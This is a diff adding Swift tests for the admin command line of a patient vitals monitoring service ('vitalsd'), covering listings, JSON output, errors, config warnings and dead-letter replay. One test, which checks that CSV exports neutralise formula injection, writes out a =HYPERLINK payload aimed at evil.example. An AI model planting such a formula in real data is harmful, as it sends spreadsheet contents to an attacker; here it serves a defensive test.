@@ -1,5 +1,6 @@
 import Foundation
 import Testing
+import VitalsConfig
 import VitalsDomain
 import VitalsFormats
 import HummingbirdBcrypt
@@ -8,11 +9,171 @@ import VitalsStore
 /// The admin commands, run as an operator would run them.
 @Suite("admin commands")
 struct CommandLineTests {
-    func run(_ env: TestEnvironment, _ arguments: [String]) async throws -> (code: Int32?, output: String) {
-        let log = env.directory + "/cli-\(UUID().uuidString.prefix(6)).log"
-        let p = try ChildProcess(path: try vitalsdBinary(), arguments: arguments + ["--config", env.configPath], logPath: log)
-        _ = await p.waitForExit(seconds: 30)
-        return (p.exitCode, (try? String(contentsOfFile: log, encoding: .utf8)) ?? "")
+    /// Runs `vitalsd ARGUMENTS --config …`.
+    /// - Returns: the exit code, standard error (`output`) and standard output.
+    func run(_ env: TestEnvironment, _ arguments: [String], environment: [String: String] = [:]) async throws
+        -> (code: Int32?, output: String, stdout: String)
+    {
+        let log = env.directory + "/cli-\(UUID().uuidString.prefix(6))"
+        let p = try ChildProcess(path: try vitalsdBinary(), arguments: arguments + ["--config", env.configPath], logPath: log + ".err",
+                                 outputPath: log + ".out", extraEnvironment: environment)
+        _ = await p.waitForExit(seconds: 120)
+        return (p.exitCode, (try? String(contentsOfFile: log + ".err", encoding: .utf8)) ?? "",
+                (try? String(contentsOfFile: log + ".out", encoding: .utf8)) ?? "")
+    }
+
+    /// Every object key in a JSON document, at any depth.
+    func jsonKeys(_ text: String) throws -> [String] {
+        func walk(_ v: Any) -> [String] {
+            if let d = v as? [String: Any] { return d.keys.map { $0 } + d.values.flatMap(walk) }
+            if let a = v as? [Any] { return a.flatMap(walk) }
+            return []
+        }
+        return walk(try JSONSerialization.jsonObject(with: Data(text.utf8)))
+    }
+
+    @Test("reading list: newest first, times in the patient's zone, --since a local date, --type")
+    func readingList() async throws {
+        let env = try TestEnvironment()  // p1 lives in America/Chicago (UTC−6 in November)
+        let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
+        for (value, at) in [(100, "2026-11-28T13:10:00Z"), (182, "2026-11-29T05:59:00Z"), (95, "2026-11-29T13:10:00Z")] {
+            _ = try env.database.ingestBlocking([IncomingMessage(
+                topic: "devices/g1/readings", deviceID: "g1",
+                payload: Array(#"{"type":"glucose","value":\#(value),"unit":"mg/dL","measured_at":"\#(at)"}"#.utf8),
+                receivedAt: MeasurementTimePolicy.parseRFC3339(at)!.addingTimeInterval(60))], pipeline: pipeline)
+        }
+        let all = try await run(env, ["reading", "list", "--patient", "p1"])
+        #expect(all.code == 0, "\(all.output)")
+        let lines = all.stdout.split(separator: "\n").map(String.init)
+        #expect(lines.first?.hasPrefix("measured_at (America/Chicago)") == true)
+        // 13:10Z is 07:10 in Chicago; 05:59Z on the 29th is still the 28th there (23:59).
+        #expect(lines.dropFirst().map { String($0.prefix(25)) } == [
+            "2026-11-29T07:10:00-06:00", "2026-11-28T23:59:00-06:00", "2026-11-28T07:10:00-06:00"])
+        #expect(lines[1].contains("glucose") && lines[1].contains("95") && lines[1].contains("g1"))
+        // Since the 29th in Chicago (06:00Z): only the 95.
+        let since = try await run(env, ["reading", "list", "--patient", "p1", "--since", "2026-11-29"])
+        #expect(since.stdout.split(separator: "\n").count == 2 && since.stdout.contains("2026-11-29T07:10:00-06:00"))
+        let none = try await run(env, ["reading", "list", "--patient", "p1", "--type", "heart_rate"])
+        #expect(none.stdout.split(separator: "\n").count == 1)
+        let json = try await run(env, ["reading", "list", "--patient", "p1", "--limit", "1", "--format", "json"])
+        #expect(Set(try jsonKeys(json.stdout)) == ["id", "device_id", "type", "value", "unit", "canonical_value", "canonical_unit",
+                                                  "measured_at", "received_at", "source", "flags", "time_source"])
+    }
+
+    @Test("task list: unresolved by default, --status, --limit, --since; 120 columns; no direction on late-data tasks")
+    func taskList() async throws {
+        let env = try TestEnvironment()
+        let long = "patient-with-a-very-long-identifier-0123456789"
+        try env.database.upsertPatient(Patient(id: long, timezone: "UTC", programs: [.diabetes]), actor: "test")
+        try env.database.upsertDevice(Device(id: "gl", kind: .glucometer, patientID: long), actor: "test")
+        let pipeline = IngestPipeline(thresholds: .clinicalDefaults)
+        let now = Date()
+        func reading(_ device: String, _ value: Int, measuredHoursAgo: Double) -> IncomingMessage {
+            IncomingMessage(topic: "devices/\(device)/readings", deviceID: device,
+                            payload: glucoseJSON(Double(value), at: Int64((now.timeIntervalSince1970 - measuredHoursAgo * 3_600) * 1000)),
+                            receivedAt: now)
+        }
+        // p1: a critical low now (threshold task), later resolved; the long-id patient: a critical high
+        // now and a low measured 30 h ago (late: a late-data review task).
+        _ = try env.database.ingestBlocking([reading("g1", 45, measuredHoursAgo: 0.5)], pipeline: pipeline)
+        _ = try env.database.ingestBlocking([reading("gl", 450, measuredHoursAgo: 0.5), reading("gl", 40, measuredHoursAgo: 30)],
+                                            pipeline: pipeline)
+        let p1Task = try #require(try env.database.tasks(patientID: "p1").first)
+        _ = try env.database.resolveTask(id: p1Task.id, by: "nurse")
+
+        let table = try await run(env, ["task", "list"])
+        #expect(table.code == 0, "\(table.output)")
+        let lines = table.stdout.split(separator: "\n").map(String.init)
+        #expect(lines.count == 3)  // header and the two unresolved tasks
+        #expect(lines.allSatisfy { $0.count <= 120 }, "\(lines.map(\.count))")
+        #expect(lines.contains { $0.contains("glucose high") })
+        let lateLine = try #require(lines.first { $0.contains("late_data") })
+        #expect(!lateLine.contains("late_data high") && !lateLine.contains(" high "))
+        #expect(lines.dropFirst().allSatisfy { $0.contains("patient-with-…") })
+
+        let all = try await run(env, ["task", "list", "--status", "all", "--format", "csv"])
+        #expect(all.stdout.split(separator: "\n").count == 4)
+        let one = try await run(env, ["task", "list", "--status", "all", "--limit", "1", "--format", "csv"])
+        #expect(one.stdout.split(separator: "\n").count == 2)
+        let later = try await run(env, ["task", "list", "--since", "2999-01-01"])
+        #expect(later.stdout.split(separator: "\n").count == 1)
+        let json = try await run(env, ["task", "list", "--format", "json"])
+        let tasks = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
+        #expect(tasks.first { $0["kind"] as? String == "late_data" }?["direction"] is NSNull)
+        #expect(tasks.first { $0["kind"] as? String == "threshold" }?["direction"] as? String == "high")
+    }
+
+    @Test("JSON output uses snake_case keys in every command")
+    func snakeCaseJSON() async throws {
+        let env = try TestEnvironment()
+        _ = try env.database.ingestBlocking(
+            [IncomingMessage(topic: "devices/nobody/readings", deviceID: "nobody", payload: glucoseJSON(45, at: msAgo(60)), receivedAt: Date()),
+             IncomingMessage(topic: "devices/g1/readings", deviceID: "g1", payload: glucoseJSON(45, at: msAgo(60)), receivedAt: Date())],
+            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
+        _ = try env.database.startEpisode(patientID: "p1", startDate: LocalDate(Date().addingTimeInterval(-86_400), in: TimeZone(identifier: "America/Chicago")!),
+                                          practitioner: "Dr. A", actor: "test")
+        let snake = try Regex("^[a-z0-9_]+$")
+        for command in [["dead-letters", "list"], ["stats"], ["task", "list"], ["task", "show", "1"], ["audit", "list"],
+                        ["patient", "list"], ["device", "list"], ["episode", "list"], ["time", "list", "--patient", "p1"]] {
+            let r = try await run(env, command + ["--format", "json"])
+            #expect(r.code == 0, "\(command): \(r.output)")
+            let keys = try jsonKeys(r.stdout)
+            #expect(!keys.isEmpty || command.contains("time"), "\(command)")
+            #expect(keys.allSatisfy { $0.wholeMatch(of: snake) != nil }, "\(command): \(keys.filter { $0.wholeMatch(of: snake) == nil })")
+        }
+    }
+
+    @Test("an error says what is wrong without the usage block; --help names VITALSD_CONFIG")
+    func errorsAndHelp() async throws {
+        let env = try TestEnvironment()
+        let missing = try await run(env, ["patient", "show", "nobody"])
+        #expect(missing.code == 1)
+        #expect(missing.output == "vitalsd: patient nobody is not enrolled\n", "\(missing.output)")
+        let bad = try await run(env, ["task", "list", "--status", "bogus"])
+        #expect(bad.code != 0 && !bad.output.lowercased().contains("usage:"), "\(bad.output)")
+        #expect(bad.output.contains("bogus") && bad.output.contains("Run the command with --help for its options."))
+        let help = try await run(env, ["task", "list", "--help"])
+        #expect(help.code == 0 && help.stdout.contains("$VITALSD_CONFIG"), "\(help.stdout)")
+    }
+
+    @Test("CSV exports neutralise formulas: an actor =HYPERLINK(...) is text in audit list --format csv")
+    func csvInjection() async throws {
+        let env = try TestEnvironment()
+        let actor = #"=HYPERLINK("http://evil.example/?"&A1,"open")"#
+        #expect(try await run(env, ["patient", "add", "--id", "csv1", "--timezone", "UTC", "--program", "diabetes", "--by", actor]).code == 0)
+        let audit = try await run(env, ["audit", "list", "--format", "csv"])
+        #expect(audit.code == 0)
+        // Quoted (it holds commas and quotes), with the leading ' that makes it text.
+        #expect(audit.stdout.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""open"")","#), "\(audit.stdout)")
+        #expect(!audit.stdout.contains(#","=HYPERLINK"#))
+    }
+
+    @Test("config check prints a threshold whose unit is ambiguous as a warning, and passes")
+    func configWarning() async throws {
+        let env = try TestEnvironment(extraYAML: "thresholds:\n  defaults:\n    body_weight: {critical_high: 250}\n")
+        let r = try await run(env, ["config", "check"])
+        #expect(r.code == 0)
+        #expect(r.output.contains("warning: thresholds.defaults.body_weight.critical_high: 250 is read as 250 kg, but as [lb_av]"), "\(r.output)")
+        #expect(r.stdout.contains("configuration ok: \(env.configPath) (1 warnings)"))
+    }
+
+    @Test("dead-letters replay stores the readings of a device enrolled later, once")
+    func deadLetterReplay() async throws {
+        let env = try TestEnvironment()
+        let ms = msAgo(3_600)
+        _ = try env.database.ingestBlocking(
+            [IncomingMessage(topic: "devices/late1/readings", deviceID: "late1", payload: glucoseJSON(120, at: ms), receivedAt: Date())],
+            pipeline: IngestPipeline(thresholds: .clinicalDefaults))
+        try env.database.upsertDevice(Device(id: "late1", kind: .glucometer, patientID: "p1"), actor: "test")
+        let first = try await run(env, ["dead-letters", "replay", "--reason", "unknown_device", "--since", "2020-01-01", "--by", "ops.a"])
+        #expect(first.code == 0, "\(first.output)")
+        #expect(first.stdout.contains("replayed 1 messages (1 dead letters): 1 readings stored, 0 already stored, 0 tasks opened"), "\(first.stdout)")
+        #expect(first.stdout.contains("resolved: 1; still failing: none; new dead letters: none"))
+        let again = try await run(env, ["dead-letters", "replay"])
+        #expect(again.stdout.contains("replayed 0 messages (0 dead letters): 0 readings stored"), "\(again.stdout)")
+        #expect(try env.statistics().readings == 1)
+        let bad = try await run(env, ["dead-letters", "replay", "--since", "yesterday"])
+        #expect(bad.code != 0 && bad.output.contains("--since must be RFC 3339 or YYYY-MM-DD"))
     }
 
     /// Runs a command; returns its exit code and standard output.
